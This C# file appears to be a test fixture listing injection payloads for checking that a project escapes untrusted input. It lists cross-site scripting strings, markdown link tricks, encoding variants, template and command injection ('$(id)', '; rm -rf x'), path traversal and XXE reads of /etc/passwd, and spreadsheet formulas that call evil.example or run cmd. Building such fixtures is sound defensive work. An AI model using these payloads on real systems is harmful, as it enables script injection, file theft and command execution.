namespace Cremona.Transparency.Tests.Hostile;

/// <summary>What people write to make a page run script, as the public lists have it, and formulas for spreadsheets.</summary>
internal static class Payloads
{
    /// <summary>All of them, each on one line of its own.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Elements, .. Breaking, .. Addresses(), .. Markdown, .. Encoded, .. Templates, .. Formulas,
    ];

    private static string[] Elements =>
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script/src=data:,alert(1)>", "<script >alert(1)</script >", "<script\u000Csrc=x>alert(1)</script>",
        "</script><script>alert(1)</script>", "<script>alert(1)//", "<script>alert(1)<!--", "<img src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:x onerror=alert(1)//", "<img src=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href=data:image/svg+xml,x#x>",
        "<svg><foreignObject><body onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style>", "<math href=javascript:alert(1)>x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe onload=alert(1)>", "<object data=javascript:alert(1)>", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<base href=javascript:alert(1)//>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href=data:text/html,x>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<style>@import 'javascript:alert(1)';</style>", "<style>*{background:url(javascript:alert(1))}</style>", "<div style=width:expression(alert(1))>", "<div style=background:url(javascript:alert(1))>",
        "<form action=javascript:alert(1)><input type=submit>", "<form><button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
        "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java&#10;script:alert(1)\">x</a>", "<a onmouseover=alert(1)>x</a>", "<table background=javascript:alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<bgsound src=javascript:alert(1)>",
        "<frameset onload=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<xss id=x tabindex=1 onfocus=alert(1)>", "<dialog open onclose=alert(1)>", "<portal src=javascript:alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<!--><script>alert(1)</script>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml-stylesheet href=javascript:alert(1)?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<%= 1 %>", "<//script>", "<><script>alert(1)</script>",
    ];

    private static string[] Breaking =>
    [
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) x=`", "\"/><svg/onload=alert(1)>", "--><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</a><script>alert(1)</script>", "\\\"><img src=x onerror=alert(1)>", "\\\";alert(1)//", "';alert(1)//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "\"]});alert(1);({\"a\":[\"", "\u2028alert(1)//", "\u2029alert(1)//", "*/alert(1)/*",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    ];

    private static string[] Markdown =>
    [
        "![x](x\"onerror=\"alert(1))", "![x](javascript:alert(1))", "[x](https://a.example \"onmouseover=alert(1) x=\")", "[x](https://a.example/\"onmouseover=alert(1))", "[x](<javascript:alert(1)>)", "[x](  javascript:alert(1))", "[x][y] [y]: javascript:alert(1)", "[y]: javascript:alert(1) \"t\"", "<javascript:alert(1)>", "<data:text/html,x>",
        "<https://a.example/\"onmouseover=alert(1)>", "<https://a.example/?<script>alert(1)</script>>", "[![x](javascript:alert(1))](javascript:alert(2))", "[<script>alert(1)</script>](settore:c1)", "[](settore:c1\"><script>alert(1)</script>)", "[x](settore:c1#\"onmouseover=alert(1))", "[x](capitolo:c1#<script>)", "[](tabella:\"><script>)", "`<script>alert(1)</script>`",
        "```<script>alert(1)</script>", "~~~\"onmouseover=alert(1)", "    <script>alert(1)</script>", "[^<script>alert(1)</script>]", "[^x]: <script>alert(1)</script>", "*[HTML]: \"onmouseover=alert(1) x=\"", "*[<script>]: x", "Voce\n:   <script>alert(1)</script>", "| a |\n|---|\n| <script>alert(1)</script> |", "# <script>alert(1)</script>", "## x {#\"onmouseover=alert(1)}",
        "x {onclick=alert(1)}", "x {.a onclick=\"alert(1)\"}", "# x {#a onclick=alert(1)}", "[x](https://a.example){onclick=alert(1)}", "$<script>alert(1)</script>$", "[[x|javascript:alert(1)]]", "http://a.example/<script>", "www.a.example\"onmouseover=alert(1)", "mailto:a\"onmouseover=alert(1)", "@<script>", "[x](mailto:a@comune.vallechiara.example?body=<script>)",
        "[x](tel:1\"onclick=alert(1))", "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/../../x)", "[x](file:///etc/passwd)", "[x](?javascript:alert(1))", "[x](#javascript:alert(1))", "[x](blob:https://a.example/1)", "[x](view-source:https://a.example)", "[x](filesystem:https://a.example)", "[x](about:blank)", "[x](ms-word:ofe|u|https://a.example)",
    ];

    private static string[] Encoded =>
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)", "&#x3C;img src=x onerror=alert(1)&#x3E;", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)", "&LT;script&GT;", "&NewLine;javascript&colon;alert&lpar;1&rpar;", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E",
        "&#1;&#11;&#127;&#128;&#65535;x", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "\u02BA><\u02B9script>", "\u202E<script>alert(1)</script>\u202C", "<\u200Bscript>alert(1)</script>", "<s\u00ADcript>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<\u0130mg src=x onerror=alert(1)>", "\uFE64script\uFE65", "¼script¾alert(1)¼/script¾", "\uD83D\uDE00<script>alert(1)</script>", "a\u0301<script>",
    ];

    private static string[] Templates =>
    [
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "@(7*7)", "@{System.Diagnostics.Process.Start(\"x\");}", "<%= 7*7 %>", "{% raw %}<script>{% endraw %}", "{{{<script>alert(1)</script>}}}", "*{7*7}", "[[${7*7}]]", "{0}{1}{99}", "{0:X", "}{", "%s%n%x", "$(id)", "`id`", "; rm -rf x", "../../../../etc/passwd", "..\\..\\x", "' OR 1=1 --", "\r\nSet-Cookie: x=1", "__proto__", "constructor",
    ];

    private static string[] Formulas =>
    [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=IMPORTXML(\"https://evil.example\")", "=WEBSERVICE(\"https://evil.example\")", "\t=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", "\"=1+1", " =1+1", "\uFF1D1+1", "+SUM(A1:A9)", "-2+3", "@x", "|=1+1", ";=1+1",
    ];

    // Every spelling of the schemes that run something, as the address of a link.
    private static IEnumerable<string> Addresses() =>
        from scheme in new[]
        {
            "javascript:alert(1)", "JavaScript:alert(1)", "java\tscript:alert(1)", "java&#9;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript\u00A0:alert(1)",
            "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "java\\script:alert(1)", "javascript://a.example/%0Aalert(1)", "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,x", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,x", "feed:javascript:alert(1)", "jar:https://a.example!/x", "ｊavascript:alert(1)", "javascript：alert(1)",
        }
        select $"[x]({scheme})";
}
